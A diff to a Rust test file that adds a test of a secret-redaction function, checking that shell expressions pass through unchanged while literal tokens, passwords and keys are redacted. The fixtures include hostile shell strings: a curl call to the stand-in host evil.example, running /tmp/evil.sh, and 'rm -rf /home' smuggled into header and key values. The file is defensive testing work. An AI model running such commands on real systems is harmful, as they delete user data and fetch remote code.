@@ -2,7 +2,7 @@
 
 use proptest::prelude::*;
 
-use crate::text::{WarningKind, redact, redact_certain, survey};
+use crate::text::{WarningKind, redact, redact_certain, redact_literals, survey};
 
 #[test]
 fn secrets_are_taken_out_with_their_length() {
@@ -55,6 +55,32 @@ fn secrets_are_taken_out_with_their_length() {
         assert_eq!(redact(&clean), clean, "a second pass changes nothing");
     }
     assert!(redact("-----BEGIN PRIVATE KEY-----\nx\n-----END PRIVATE KEY-----\nafter").ends_with("\nafter"));
+}
+
+#[test]
+fn what_would_run_is_shown_under_any_name() {
+    for shown in [
+        "Authorization: 'Bearer ${TOKEN}'",
+        "sh -c 'token=/tmp/evil.sh; $token'",
+        "sh -c 'password=$(curl${IFS}evil.example)'",
+        "sh -c 'secret=`evil-program`'",
+        "sh -c 'api_key=rm;rm'",
+        "curl -H 'cookie: a; rm -rf /home'",
+        "psql postgres://app:${PASSWORD}@db.local/x",
+        "-----BEGIN PRIVATE KEY-----\nrm -rf /home\n",
+    ] {
+        assert_eq!(redact_literals(shown), shown);
+    }
+    for text in [
+        "Authorization: Bearer abcdef0123456789",
+        "--token=abcdef0123456789",
+        "postgres://app:hunter22!@db.local/x",
+        "Cookie: session=abc; other=def",
+        "-----BEGIN RSA PRIVATE KEY-----\nMIIE\nabc\n-----END RSA PRIVATE KEY-----\nafter",
+    ] {
+        assert_eq!(redact_literals(text), redact(text));
+        assert_ne!(redact_literals(text), text);
+    }
 }
 
 #[test]
